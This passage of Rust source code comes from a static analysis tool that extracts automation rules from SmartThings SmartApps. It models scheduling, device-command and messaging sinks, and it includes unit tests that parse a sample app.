//!   reads, `state`, HTTP responses and unmodeled API returns are sources.
//! * **API modeling** — the 10 scheduling APIs attach `when`/`period` to
//!   downstream commands; messaging/HTTP/location-mode APIs are sinks
//!   (Table VI); `runDaily`-style undocumented APIs are behind
//!   [`ExtractorConfig::extended`], reproducing the §VIII-B fix.
//! * **Trigger constraint hoisting** — comparisons on the subscribed event
//!   value become part of the trigger, everything else forms the condition.
//!
//! Entry point: [`extract()`].

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod calls;
pub mod engine;
pub mod extract;
pub mod inputs;
pub mod sv;

pub use engine::{ExtractError, ExtractorConfig};
pub use extract::{extract, extract_program, AppAnalysis};
pub use inputs::{InputDecl, InputType};
