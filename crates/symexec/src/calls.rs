//! Call evaluation: SmartThings API modeling, sink recognition and
//! user-method inlining (paper §V-B "API modeling" and "Analysis entry
//! points and sinks").

use crate::engine::{Engine, ExtractError, Flow, Mode, Registration, St};
use crate::sv::{DeviceSlot, Sv};
use hg_capability::capability;
use hg_capability::sinks::{sink_api, SinkKind};
use hg_lang::ast::{Arg, Closure, Expr};
use hg_rules::constraint::{CmpOp, Formula, Term};
use hg_rules::rule::{Action, ActionSubject, Trigger};
use hg_rules::value::Value;
use hg_rules::varid::VarId;

/// Undocumented APIs the paper had to model after meeting them in the store
/// (`Camera Power Scheduler` used `runDaily`).
const UNDOCUMENTED_APIS: &[&str] = &["runDaily"];

impl<'a> Engine<'a> {
    pub(crate) fn eval_call(
        &mut self,
        recv: Option<&Expr>,
        name: &str,
        args: &[Arg],
        closure: Option<&Closure>,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        match recv {
            None => self.eval_free_call(name, args, closure, st),
            Some(recv_expr) => {
                let (st, recv_v) = self.eval_single(recv_expr, st)?;
                self.eval_method_call(&recv_v, name, args, closure, st)
            }
        }
    }

    // ----- free function calls -------------------------------------------------

    fn eval_free_call(
        &mut self,
        name: &str,
        args: &[Arg],
        closure: Option<&Closure>,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        match name {
            "subscribe" => return self.model_subscribe(args, st),
            "unsubscribe" | "unschedule" => return Ok(vec![(st, Sv::Null)]),
            "definition" | "preferences" | "section" | "page" | "dynamicPage" | "paragraph"
            | "metadata" | "mappings" | "label" | "mode" | "icon" => {
                return Ok(vec![(st, Sv::Null)]);
            }
            "input" => return Ok(vec![(st, Sv::Null)]),
            _ => {}
        }
        if let Some(api) = sink_api(name) {
            return self.model_sink_api(api.name, api.kind, args, closure, st);
        }
        if UNDOCUMENTED_APIS.contains(&name) {
            if !self.config.model_undocumented_apis {
                return Err(ExtractError::Unsupported(format!(
                    "undocumented API `{name}`"
                )));
            }
            // `runDaily(time, handler)` schedules handler daily.
            return self.model_schedule_like(name, args, 86_400, st);
        }
        match name {
            "now" => {
                return Ok(vec![(st, Sv::Term(Term::Var(VarId::TimeOfDay)))]);
            }
            "timeOfDayIsBetween" | "timeOfDayIsAfter" => {
                let t = self.fresh_opaque("timeWindow");
                return Ok(vec![(
                    st,
                    Sv::Pred(Formula::cmp(t, CmpOp::Eq, Term::sym("true"))),
                )]);
            }
            "timeToday" | "timeTodayAfter" | "toDateTime" | "getSunriseAndSunset" => {
                let t = self.fresh_opaque("time");
                return Ok(vec![(st, Sv::Term(t))]);
            }
            "getLocation" => return Ok(vec![(st, Sv::Location)]),
            "getAllChildDevices" | "getChildDevices" => {
                return Ok(vec![(st, Sv::List(Vec::new()))]);
            }
            "pause" => return Ok(vec![(st, Sv::Null)]),
            "createAccessToken" | "apiServerUrl" => {
                let t = self.fresh_opaque("token");
                return Ok(vec![(st, Sv::Term(t))]);
            }
            _ => {}
        }
        // User-defined method?
        if self.program.method(name).is_some() {
            return self.inline_user_method(name, args, st);
        }
        // Unknown API.
        self.warnings
            .push(format!("unmodeled API `{name}` treated as opaque"));
        let t = self.fresh_opaque("api");
        Ok(vec![(st, Sv::Term(t))])
    }

    /// Inlines a call to a method defined in the same app.
    fn inline_user_method(
        &mut self,
        name: &str,
        args: &[Arg],
        mut st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        if st.depth >= self.config.max_call_depth {
            self.warnings.push(format!("recursion limit at `{name}`"));
            return Ok(vec![(st, Sv::Null)]);
        }
        let method = self.program.method(name).expect("caller checked").clone();
        // Evaluate arguments in order.
        let mut arg_vals = Vec::new();
        for a in args.iter().filter(|a| a.name.is_none()) {
            let (s2, v) = self.eval_single(&a.value, st)?;
            st = s2;
            arg_vals.push(v);
        }
        st.depth += 1;
        st.locals.push(Default::default());
        for (i, p) in method.params.iter().enumerate() {
            let v = arg_vals.get(i).cloned().unwrap_or(Sv::Null);
            st.define(&p.name, v);
        }
        let outcomes = self.exec_block(&method.body, st)?;
        let mut out = Vec::new();
        for (mut s, flow) in outcomes {
            s.locals.pop();
            s.depth = s.depth.saturating_sub(1);
            let ret = match flow {
                Flow::Return(v) => v,
                _ => Sv::Null,
            };
            out.push((s, ret));
        }
        Ok(out)
    }

    // ----- subscription modeling -------------------------------------------------

    fn model_subscribe(&mut self, args: &[Arg], st: St) -> Result<Vec<(St, Sv)>, ExtractError> {
        if self.mode != Mode::CollectTriggers {
            return Ok(vec![(st, Sv::Null)]);
        }
        let positional: Vec<&Expr> = args
            .iter()
            .filter(|a| a.name.is_none())
            .map(|a| &a.value)
            .collect();
        if positional.len() < 2 {
            self.warnings.push("malformed subscribe call".into());
            return Ok(vec![(st, Sv::Null)]);
        }
        let (st, target) = self.eval_single(positional[0], st)?;
        let handler = handler_name(positional.last().expect("len >= 2"));
        let Some(handler) = handler else {
            self.warnings
                .push("subscribe handler is not a method reference".into());
            return Ok(vec![(st, Sv::Null)]);
        };
        let spec = if positional.len() >= 3 {
            positional[1].as_str().map(str::to_string)
        } else {
            None
        };
        match target {
            Sv::Device(slot) => {
                self.register_device_subscription(&[slot], spec.as_deref(), &handler);
            }
            Sv::Devices(slots) => {
                self.register_device_subscription(&slots, spec.as_deref(), &handler);
            }
            Sv::Location => {
                let trigger = match spec.as_deref() {
                    Some("sunset") | Some("sunrise") => Trigger::TimeOfDay {
                        at_minutes: None,
                        description: spec.clone().expect("matched Some"),
                    },
                    Some("mode") | None => Trigger::ModeChange { constraint: None },
                    Some(other) => {
                        // `subscribe(location, "mode.Away", h)` style.
                        match other.strip_prefix("mode.") {
                            Some(mode_val) => Trigger::ModeChange {
                                constraint: Some(Formula::var_eq(
                                    VarId::Mode,
                                    Value::sym(mode_val),
                                )),
                            },
                            None => Trigger::ModeChange { constraint: None },
                        }
                    }
                };
                self.registrations.push(Registration { trigger, handler });
            }
            Sv::AppObj => {
                self.registrations.push(Registration {
                    trigger: Trigger::AppTouch,
                    handler,
                });
            }
            other => {
                self.warnings
                    .push(format!("subscribe target not a device: {other:?}"));
            }
        }
        Ok(vec![(st, Sv::Null)])
    }

    fn register_device_subscription(
        &mut self,
        slots: &[DeviceSlot],
        spec: Option<&str>,
        handler: &str,
    ) {
        for slot in slots {
            let (attribute, value) = match spec {
                Some(spec) => match spec.split_once('.') {
                    Some((attr, val)) => (attr.to_string(), Some(val.to_string())),
                    None => (spec.to_string(), None),
                },
                None => {
                    // Whole-device subscription: subscribe to the primary
                    // attribute of the capability.
                    let attr = capability::lookup(&slot.capability)
                        .and_then(|c| c.attributes.first())
                        .map(|a| a.name.to_string())
                        .unwrap_or_else(|| "state".to_string());
                    (attr, None)
                }
            };
            let subject = slot.device_ref(&self.app);
            let constraint = value.map(|v| {
                let var = VarId::canonical_attr(&subject, &attribute);
                // Numeric-looking event values compare numerically.
                match hg_capability::domains::parse_scaled(&v) {
                    Some(n) => Formula::cmp(Term::Var(var), CmpOp::Eq, Term::num(n)),
                    None => Formula::var_eq(var, Value::sym(v)),
                }
            });
            self.registrations.push(Registration {
                trigger: Trigger::DeviceEvent {
                    subject,
                    attribute,
                    constraint,
                },
                handler: handler.to_string(),
            });
        }
    }

    // ----- sink API modeling -------------------------------------------------

    fn model_sink_api(
        &mut self,
        name: &str,
        kind: SinkKind,
        args: &[Arg],
        closure: Option<&Closure>,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        match kind {
            SinkKind::ScheduleOnce | SinkKind::SchedulePeriodic => {
                let period = sink_api(name).and_then(|s| s.period_secs).unwrap_or(0);
                self.model_schedule_like(name, args, period, st)
            }
            SinkKind::Http => {
                let mut st = st;
                let mut url = None;
                if let Some(a) = args.iter().find(|a| a.name.is_none()) {
                    let (s2, v) = self.eval_single(&a.value, st)?;
                    st = s2;
                    url = match v {
                        Sv::Concrete(Value::Sym(s)) => Some(s),
                        Sv::Map(m) => m
                            .get("uri")
                            .or_else(|| m.get("url"))
                            .and_then(Sv::as_sym)
                            .map(str::to_string),
                        _ => None,
                    };
                }
                let method = name.strip_prefix("http").unwrap_or("GET").to_uppercase();
                st.actions.push(Action {
                    subject: ActionSubject::Http { method, url },
                    command: name.to_string(),
                    params: Vec::new(),
                    when_secs: st.delay,
                    period_secs: st.period,
                });
                // The response closure receives an opaque response object.
                if let Some(c) = closure {
                    let mut inner = st.clone();
                    inner.locals.push(Default::default());
                    let resp = Sv::Term(self.fresh_opaque("httpResp"));
                    let param = c
                        .params
                        .first()
                        .map(|p| p.name.clone())
                        .unwrap_or_else(|| "it".to_string());
                    inner.define(&param, resp);
                    let outcomes = self.exec_block(&c.body, inner)?;
                    let mut out = Vec::new();
                    for (mut s, _flow) in outcomes {
                        s.locals.pop();
                        out.push((s, Sv::Null));
                    }
                    return Ok(out);
                }
                Ok(vec![(st, Sv::Null)])
            }
            SinkKind::Messaging => {
                let mut st = st;
                let mut params = Vec::new();
                let mut target = None;
                for (i, a) in args.iter().filter(|a| a.name.is_none()).enumerate() {
                    let (s2, v) = self.eval_single(&a.value, st)?;
                    st = s2;
                    if i == 0 && (name == "sendSms" || name == "sendSmsMessage") {
                        target = v.as_sym().map(str::to_string);
                    }
                    if let Some(t) = v.as_term() {
                        params.push(t);
                    }
                }
                st.actions.push(Action {
                    subject: ActionSubject::Message { target },
                    command: name.to_string(),
                    params,
                    when_secs: st.delay,
                    period_secs: st.period,
                });
                Ok(vec![(st, Sv::Null)])
            }
            SinkKind::LocationMode => {
                let mut st = st;
                let mut params = Vec::new();
                for a in args.iter().filter(|a| a.name.is_none()) {
                    let (s2, v) = self.eval_single(&a.value, st)?;
                    st = s2;
                    if let Some(t) = v.as_term() {
                        params.push(t);
                    }
                }
                st.actions.push(Action {
                    subject: ActionSubject::LocationMode,
                    command: "setLocationMode".to_string(),
                    params,
                    when_secs: st.delay,
                    period_secs: st.period,
                });
                Ok(vec![(st, Sv::Null)])
            }
            SinkKind::HubCommand => {
                let mut st = st;
                st.actions.push(Action {
                    subject: ActionSubject::HubCommand,
                    command: name.to_string(),
                    params: Vec::new(),
                    when_secs: st.delay,
                    period_secs: st.period,
                });
                Ok(vec![(st, Sv::Null)])
            }
        }
    }

    /// Models `runIn`/`runOnce`/`schedule`/`runEvery*`/`runDaily`.
    ///
    /// In trigger-collection mode a scheduling call at the entry point
    /// *creates a trigger*; in trace mode it *defers* the scheduled method:
    /// we trace into it with the delay attached (paper §V-B API modeling).
    fn model_schedule_like(
        &mut self,
        name: &str,
        args: &[Arg],
        period: u64,
        mut st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        let positional: Vec<&Expr> = args
            .iter()
            .filter(|a| a.name.is_none())
            .map(|a| &a.value)
            .collect();
        // The method reference is the last positional arg for runIn/schedule,
        // the only one for runEvery*.
        let Some(method) = positional.last().and_then(|e| handler_name(e)) else {
            self.warnings
                .push(format!("{name}: dynamic method reference"));
            return Ok(vec![(st, Sv::Null)]);
        };
        let mut delay_secs: u64 = 0;
        let mut at_minutes: Option<u32> = None;
        let mut description = name.to_string();
        if name == "runIn" {
            if let Some(first) = positional.first() {
                let (s2, v) = self.eval_single(first, st)?;
                st = s2;
                if let Some(Value::Num(n)) = v.as_concrete() {
                    delay_secs = (*n / hg_capability::domains::SCALE).max(0) as u64;
                }
            }
        } else if name == "schedule" || name == "runOnce" || name == "runDaily" {
            if let Some(first) = positional.first() {
                if let Some(text) = first.as_str() {
                    description = text.to_string();
                    at_minutes = parse_time_of_day(text);
                }
            }
        }
        match self.mode {
            Mode::CollectTriggers => {
                let trigger = if period > 0 && name != "schedule" && name != "runDaily" {
                    Trigger::Periodic {
                        period_secs: period,
                    }
                } else if name == "schedule" || name == "runDaily" || name == "runOnce" {
                    Trigger::TimeOfDay {
                        at_minutes,
                        description,
                    }
                } else {
                    // runIn at an entry point: a delayed one-shot; model as
                    // a time trigger.
                    Trigger::TimeOfDay {
                        at_minutes: None,
                        description: format!("{delay_secs}s after install"),
                    }
                };
                self.registrations.push(Registration {
                    trigger,
                    handler: method,
                });
                Ok(vec![(st, Sv::Null)])
            }
            Mode::Trace => {
                // Trace into the scheduled method with the delay attached.
                if self.program.method(&method).is_none() {
                    self.warnings
                        .push(format!("scheduled method `{method}` not found"));
                    return Ok(vec![(st, Sv::Null)]);
                }
                let saved_delay = st.delay;
                let saved_period = st.period;
                st.delay = st.delay.saturating_add(delay_secs);
                if period > 0 {
                    st.period = period;
                }
                let outcomes = self.inline_user_method(&method, &[], st)?;
                Ok(outcomes
                    .into_iter()
                    .map(|(mut s, _)| {
                        s.delay = saved_delay;
                        s.period = saved_period;
                        (s, Sv::Null)
                    })
                    .collect())
            }
        }
    }

    // ----- method calls on objects ------------------------------------------------

    fn eval_method_call(
        &mut self,
        recv: &Sv,
        name: &str,
        args: &[Arg],
        closure: Option<&Closure>,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        match recv {
            Sv::Device(slot) => self.device_method(std::slice::from_ref(slot), name, args, st),
            Sv::Devices(slots) => {
                let slots = slots.clone();
                if let Some(c) = closure {
                    if matches!(
                        name,
                        "each" | "every" | "any" | "find" | "findAll" | "collect"
                    ) {
                        return self.collection_closure(
                            &slots
                                .iter()
                                .map(|s| Sv::Device(s.clone()))
                                .collect::<Vec<_>>(),
                            name,
                            c,
                            st,
                        );
                    }
                }
                self.device_method(&slots, name, args, st)
            }
            Sv::List(items) => {
                if let Some(c) = closure {
                    if matches!(
                        name,
                        "each" | "every" | "any" | "find" | "findAll" | "collect"
                    ) {
                        return self.collection_closure(items, name, c, st);
                    }
                }
                match name {
                    "size" => Ok(vec![(
                        st,
                        Sv::num((items.len() as i64) * hg_capability::domains::SCALE),
                    )]),
                    "contains" => {
                        let mut st = st;
                        let mut needle = Sv::Null;
                        if let Some(a) = args.first() {
                            let (s2, v) = self.eval_single(&a.value, st)?;
                            st = s2;
                            needle = v;
                        }
                        let contains = match needle.as_concrete() {
                            Some(c) => {
                                let mut known = true;
                                let mut found = false;
                                for item in items {
                                    match item.as_concrete() {
                                        Some(ic) if ic == c => found = true,
                                        Some(_) => {}
                                        None => known = false,
                                    }
                                }
                                if found {
                                    Some(true)
                                } else if known {
                                    Some(false)
                                } else {
                                    None
                                }
                            }
                            None => None,
                        };
                        let v = match contains {
                            Some(b) => Sv::bool(b),
                            None => {
                                let t = self.fresh_opaque("contains");
                                Sv::Pred(Formula::cmp(t, CmpOp::Eq, Term::sym("true")))
                            }
                        };
                        Ok(vec![(st, v)])
                    }
                    "join" | "toString" => Ok(vec![(st, Sv::Term(self.fresh_opaque("join")))]),
                    "first" => Ok(vec![(st, items.first().cloned().unwrap_or(Sv::Null))]),
                    "last" => Ok(vec![(st, items.last().cloned().unwrap_or(Sv::Null))]),
                    _ => {
                        self.warnings
                            .push(format!("unmodeled list method `{name}`"));
                        Ok(vec![(st, Sv::Term(self.fresh_opaque("list")))])
                    }
                }
            }
            Sv::Location => match name {
                "setMode" => {
                    self.model_sink_api("setLocationMode", SinkKind::LocationMode, args, None, st)
                }
                "getMode" | "currentMode" => Ok(vec![(st, Sv::Term(Term::Var(VarId::Mode)))]),
                _ => Ok(vec![(st, Sv::Term(self.fresh_opaque("loc")))]),
            },
            Sv::AppObj => Ok(vec![(st, Sv::Null)]), // log.debug etc.
            Sv::Event => {
                let v = match name {
                    "value" | "getValue" | "getDoubleValue" | "getFloatValue" => {
                        self.event_value_term()
                    }
                    "getDevice" => self.event_prop_device(),
                    "isStateChange" | "isPhysical" | "isDigital" => Sv::bool(true),
                    _ => Sv::Term(self.fresh_opaque("evtCall")),
                };
                Ok(vec![(st, v)])
            }
            Sv::Term(t) => {
                // Data method calls: toInteger/toFloat keep the term; string
                // predicates become opaque booleans.
                let t = t.clone();
                let v = match name {
                    "toInteger" | "toFloat" | "toDouble" | "toBigDecimal" | "toString" | "trim"
                    | "toLowerCase" | "toUpperCase" => Sv::Term(t),
                    "contains" | "startsWith" | "endsWith" | "equalsIgnoreCase" | "isNumber" => {
                        let o = self.fresh_opaque("strPred");
                        Sv::Pred(Formula::cmp(o, CmpOp::Eq, Term::sym("true")))
                    }
                    _ => {
                        self.warnings
                            .push(format!("unmodeled method `{name}` on data"));
                        Sv::Term(self.fresh_opaque("data"))
                    }
                };
                Ok(vec![(st, v)])
            }
            Sv::Concrete(Value::Sym(s)) => {
                let s = s.clone();
                let v = match name {
                    "toInteger" | "toFloat" | "toDouble" => {
                        match hg_capability::domains::parse_scaled(&s) {
                            Some(n) => Sv::num(n),
                            None => Sv::Null,
                        }
                    }
                    "toLowerCase" => Sv::sym(s.to_lowercase()),
                    "toUpperCase" => Sv::sym(s.to_uppercase()),
                    "trim" => Sv::sym(s.trim().to_string()),
                    "contains" | "startsWith" | "endsWith" => {
                        let mut st2 = st.clone();
                        let mut needle = None;
                        if let Some(a) = args.first() {
                            let (s3, v) = self.eval_single(&a.value, st2)?;
                            st2 = s3;
                            needle = v.as_sym().map(str::to_string);
                        }
                        let result = needle.map(|n| match name {
                            "contains" => s.contains(&n),
                            "startsWith" => s.starts_with(&n),
                            _ => s.ends_with(&n),
                        });
                        return Ok(vec![(
                            st2,
                            match result {
                                Some(b) => Sv::bool(b),
                                None => {
                                    let o = self.fresh_opaque("strPred");
                                    Sv::Pred(Formula::cmp(o, CmpOp::Eq, Term::sym("true")))
                                }
                            },
                        )]);
                    }
                    _ => Sv::Term(self.fresh_opaque("str")),
                };
                Ok(vec![(st, v)])
            }
            Sv::Map(entries) => {
                let v = match name {
                    "get" => {
                        let mut st2 = st.clone();
                        let mut key = None;
                        if let Some(a) = args.first() {
                            let (s3, v) = self.eval_single(&a.value, st2)?;
                            st2 = s3;
                            key = v.as_sym().map(str::to_string);
                        }
                        let v = key
                            .and_then(|k| entries.get(&k).cloned())
                            .unwrap_or(Sv::Null);
                        return Ok(vec![(st2, v)]);
                    }
                    "containsKey" => {
                        let o = self.fresh_opaque("mapKey");
                        Sv::Pred(Formula::cmp(o, CmpOp::Eq, Term::sym("true")))
                    }
                    _ => Sv::Term(self.fresh_opaque("map")),
                };
                Ok(vec![(st, v)])
            }
            Sv::StateObj => Ok(vec![(st, Sv::Term(self.fresh_opaque("state")))]),
            _ => {
                self.warnings
                    .push(format!("call `{name}` on unsupported receiver"));
                Ok(vec![(st, Sv::Null)])
            }
        }
    }

    fn event_value_term(&mut self) -> Sv {
        match self
            .current_trigger
            .as_ref()
            .and_then(Trigger::observed_var)
        {
            Some(_) => Sv::Term(Term::Var(self.evt_value_var())),
            None => Sv::Term(self.fresh_opaque("evtValue")),
        }
    }

    /// `devices.each { it.on() }` and friends.
    fn collection_closure(
        &mut self,
        items: &[Sv],
        method: &str,
        closure: &Closure,
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        let param = closure
            .params
            .first()
            .map(|p| p.name.clone())
            .unwrap_or_else(|| "it".to_string());
        let items: Vec<Sv> = if items.is_empty() {
            vec![Sv::Term(self.fresh_opaque("elem"))]
        } else {
            items
                .iter()
                .take(self.config.loop_unroll)
                .cloned()
                .collect()
        };
        let mut states = vec![st];
        for item in &items {
            let mut next = Vec::new();
            for s in states {
                let mut inner = s;
                inner.locals.push(Default::default());
                inner.define(&param, item.clone());
                for (mut s2, _flow) in self.exec_block(&closure.body, inner)? {
                    s2.locals.pop();
                    next.push(s2);
                }
            }
            states = next;
            if states.len() > self.config.max_paths {
                states.truncate(self.config.max_paths);
            }
        }
        let result = match method {
            "each" => Sv::Null,
            "find" => items.first().cloned().unwrap_or(Sv::Null),
            "findAll" | "collect" => Sv::List(items),
            "any" | "every" => {
                let o = self.fresh_opaque(method);
                Sv::Pred(Formula::cmp(o, CmpOp::Eq, Term::sym("true")))
            }
            _ => Sv::Null,
        };
        Ok(states.into_iter().map(|s| (s, result.clone())).collect())
    }

    /// Command/read dispatch on device slots.
    fn device_method(
        &mut self,
        slots: &[DeviceSlot],
        name: &str,
        args: &[Arg],
        st: St,
    ) -> Result<Vec<(St, Sv)>, ExtractError> {
        // Attribute reads.
        if name == "currentValue" || name == "latestValue" || name == "currentState" {
            let mut st = st;
            let mut attr = None;
            if let Some(a) = args.first() {
                let (s2, v) = self.eval_single(&a.value, st)?;
                st = s2;
                attr = v.as_sym().map(str::to_string);
            }
            let v = match (slots.first(), attr) {
                (Some(slot), Some(attr)) => Sv::Term(Term::Var(VarId::canonical_attr(
                    &slot.device_ref(&self.app),
                    &attr,
                ))),
                _ => Sv::Term(self.fresh_opaque("attr")),
            };
            return Ok(vec![(st, v)]);
        }
        if name == "getId" || name == "getDisplayName" || name == "getLabel" {
            let t = self.fresh_opaque("devMeta");
            return Ok(vec![(st, Sv::Term(t))]);
        }
        if name == "refresh" || name == "poll" || name == "ping" {
            return Ok(vec![(st, Sv::Null)]);
        }
        // Command sink? Known capability commands always count; on
        // non-standard device types (extended config) any call that is not a
        // read is treated as a command, matching the paper's fix of adding
        // those device types to the capability list.
        let nonstandard = slots
            .iter()
            .any(|slot| capability::lookup(&slot.capability).is_none());
        let is_command = slots.iter().any(|slot| {
            capability::lookup(&slot.capability)
                .map(|c| c.command(name).is_some())
                .unwrap_or(false)
        }) || global_command_exists(name)
            || (nonstandard && self.config.allow_nonstandard_devices);
        if is_command {
            let mut st = st;
            let mut params = Vec::new();
            for a in args.iter().filter(|a| a.name.is_none()) {
                let (s2, v) = self.eval_single(&a.value, st)?;
                st = s2;
                params.push(v.as_term().unwrap_or_else(|| self.fresh_opaque("param")));
            }
            for slot in slots {
                st.actions.push(Action {
                    subject: ActionSubject::Device(slot.device_ref(&self.app)),
                    command: name.to_string(),
                    params: params.clone(),
                    when_secs: st.delay,
                    period_secs: st.period,
                });
            }
            return Ok(vec![(st, Sv::Null)]);
        }
        self.warnings.push(format!(
            "call `{name}` on device `{}` is not a known command",
            slots.first().map(|s| s.input.as_str()).unwrap_or("?")
        ));
        let t = self.fresh_opaque("devCall");
        Ok(vec![(st, Sv::Term(t))])
    }
}

/// Whether any capability in the catalogue defines this command (devices
/// support several capabilities; apps may call a command from a capability
/// other than the one they requested).
fn global_command_exists(name: &str) -> bool {
    capability::CAPABILITIES
        .iter()
        .any(|c| c.command(name).is_some())
}

/// Extracts a handler method name from a `subscribe`/`runIn` argument:
/// either a bare identifier or a string literal.
fn handler_name(e: &Expr) -> Option<String> {
    if let Some(name) = e.as_ident() {
        return Some(name.to_string());
    }
    e.as_str().map(str::to_string)
}

/// Parses `"HH:mm"` or ISO-ish time text into minutes since midnight.
fn parse_time_of_day(text: &str) -> Option<u32> {
    // Accept "18:30", "2015-01-09T18:30:00.000-0600" (take the T segment).
    let clock = match text.split('T').nth(1) {
        Some(rest) => rest,
        None => text,
    };
    let mut parts = clock.split(':');
    let h: u32 = parts.next()?.parse().ok()?;
    let m: u32 = parts.next()?.get(0..2).and_then(|s| s.parse().ok())?;
    if h < 24 && m < 60 {
        Some(h * 60 + m)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_of_day_parsing() {
        assert_eq!(parse_time_of_day("18:30"), Some(18 * 60 + 30));
        assert_eq!(
            parse_time_of_day("2015-01-09T07:05:00.000-0600"),
            Some(7 * 60 + 5)
        );
        assert_eq!(parse_time_of_day("99:00"), None);
        assert_eq!(parse_time_of_day("sunset"), None);
    }

    #[test]
    fn global_commands() {
        assert!(global_command_exists("on"));
        assert!(global_command_exists("lock"));
        assert!(!global_command_exists("teleport"));
    }
}
