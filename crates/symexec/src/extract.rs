//! Top-level rule extraction API.

use crate::engine::{Engine, ExtractError, ExtractorConfig};
use crate::inputs::InputDecl;
use hg_lang::ast::{Expr, ExprKind, Item, Program, StmtKind};
use hg_lang::parser::parse;
use hg_rules::rule::Rule;

/// The complete analysis of one SmartApp.
#[derive(Debug, Clone)]
pub struct AppAnalysis {
    /// App name (from `definition(name: ...)`, falling back to the caller-
    /// supplied name).
    pub name: String,
    /// App description from the definition metadata.
    pub description: String,
    /// The configuration schema: every `input` declaration.
    pub inputs: Vec<InputDecl>,
    /// The extracted trigger-condition-action rules.
    pub rules: Vec<Rule>,
    /// Non-fatal analysis notes (unmodeled APIs treated as opaque, ...).
    pub warnings: Vec<String>,
    /// Whether the app exposes web-service endpoints (`mappings { ... }`).
    /// Automation defined *outside* such apps is not extractable by static
    /// analysis — the paper's endpoint-attack limitation (Table III).
    pub is_web_service: bool,
}

impl AppAnalysis {
    /// Whether any rule controls an actuator (device or mode).
    pub fn controls_devices(&self) -> bool {
        self.rules.iter().any(|r| r.actuations().next().is_some())
    }
}

/// Extracts the automation rules of a SmartApp from source.
///
/// `fallback_name` is used when the app has no `definition(name:)` metadata;
/// rule identities are derived from the app name.
///
/// # Errors
///
/// Returns [`ExtractError::Parse`] for malformed source and
/// [`ExtractError::Unsupported`] for constructs outside the configured
/// model (e.g. non-standard device types without
/// [`ExtractorConfig::extended`]).
///
/// # Examples
///
/// ```
/// use hg_symexec::{extract, ExtractorConfig};
///
/// let analysis = extract(r#"
///     definition(name: "MiniApp", description: "turn on a light on motion")
///     input "motion1", "capability.motionSensor"
///     input "lamp", "capability.switch", title: "which lamp?"
///     def installed() { subscribe(motion1, "motion.active", onMotion) }
///     def onMotion(evt) { lamp.on() }
/// "#, "MiniApp", &ExtractorConfig::default()).unwrap();
/// assert_eq!(analysis.rules.len(), 1);
/// assert_eq!(analysis.rules[0].actions[0].command, "on");
/// ```
pub fn extract(
    source: &str,
    fallback_name: &str,
    config: &ExtractorConfig,
) -> Result<AppAnalysis, ExtractError> {
    let program = parse(source)?;
    extract_program(&program, fallback_name, config)
}

/// Extracts from an already-parsed program.
pub fn extract_program(
    program: &Program,
    fallback_name: &str,
    config: &ExtractorConfig,
) -> Result<AppAnalysis, ExtractError> {
    let meta = definition_metadata(program);
    let name = meta.name.unwrap_or_else(|| fallback_name.to_string());

    let mut engine = Engine::new(program, &name, config);
    engine.check_inputs()?;
    let registrations = engine.collect_registrations()?;
    let mut rules = Vec::new();
    for reg in &registrations {
        engine.trace(reg, &mut rules)?;
    }
    let inputs = engine.inputs.values().cloned().collect();
    Ok(AppAnalysis {
        name,
        description: meta.description.unwrap_or_default(),
        inputs,
        rules,
        warnings: engine.warnings,
        is_web_service: has_mappings(program),
    })
}

struct DefinitionMeta {
    name: Option<String>,
    description: Option<String>,
}

fn definition_metadata(program: &Program) -> DefinitionMeta {
    let mut meta = DefinitionMeta {
        name: None,
        description: None,
    };
    for item in &program.items {
        let Item::Stmt(stmt) = item else { continue };
        let StmtKind::Expr(e) = &stmt.kind else {
            continue;
        };
        let ExprKind::Call {
            recv: None,
            name,
            args,
            ..
        } = &e.kind
        else {
            continue;
        };
        if name != "definition" {
            continue;
        }
        for arg in args {
            match arg.name.as_deref() {
                Some("name") => meta.name = string_value(&arg.value),
                Some("description") => meta.description = string_value(&arg.value),
                _ => {}
            }
        }
    }
    meta
}

fn string_value(e: &Expr) -> Option<String> {
    e.as_str().map(str::to_string)
}

fn has_mappings(program: &Program) -> bool {
    program.top_level_stmts().any(|stmt| {
        matches!(
            &stmt.kind,
            StmtKind::Expr(Expr { kind: ExprKind::Call { recv: None, name, .. }, .. })
                if name == "mappings"
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    use hg_rules::rule::{ActionSubject, Trigger};
    use hg_rules::value::Value;
    use hg_rules::varid::{DeviceRef, VarId};

    const COMFORT_TV: &str = r#"
definition(name: "ComfortTV", description: "Open the window when watching TV in a hot room")
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch", title: "window opener switch"

def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
"#;

    #[test]
    fn comfort_tv_extracts_table_ii_rule() {
        let analysis = extract(COMFORT_TV, "ComfortTV", &ExtractorConfig::default()).unwrap();
        assert_eq!(analysis.name, "ComfortTV");
        assert_eq!(analysis.rules.len(), 1, "rules: {:#?}", analysis.rules);
        let rule = &analysis.rules[0];

        // Trigger: tv1.switch == on (the evt.value comparison hoisted).
        let Trigger::DeviceEvent {
            subject,
            attribute,
            constraint,
        } = &rule.trigger
        else {
            panic!("wrong trigger {:?}", rule.trigger);
        };
        assert_eq!(attribute, "switch");
        let DeviceRef::Unbound { input, .. } = subject else {
            panic!()
        };
        assert_eq!(input, "tv1");
        let c = constraint.as_ref().expect("trigger constraint");
        let c_str = c.to_string();
        assert!(c_str.contains("switch == on"), "{c_str}");

        // Condition: t > threshold1 && window1.switch == off.
        let p = rule.condition.predicate.to_string();
        assert!(p.contains("env.temperature"), "{p}");
        assert!(p.contains("user:ComfortTV/threshold1"), "{p}");
        assert!(p.contains("switch == off"), "{p}");

        // Action: window1.on().
